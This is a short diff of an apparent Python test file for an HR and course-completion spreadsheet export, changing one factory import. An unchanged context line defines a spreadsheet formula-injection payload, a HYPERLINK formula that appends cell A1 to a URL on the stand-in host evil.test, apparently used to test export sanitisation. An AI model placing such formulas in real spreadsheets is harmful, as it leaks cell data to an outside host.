@@ -10,7 +10,7 @@ from openpyxl import load_workbook
 from hr.models import Assignment
 from officers.models import AuditLog, OfficerProfile
 from progress.models import CourseCompletion
-from tests.certificates.builders import make_course
+from tests.factories import make_course
 
 EVIL = '=HYPERLINK("http://evil.test/?d="&A1,"ดูหลักฐาน")'
 
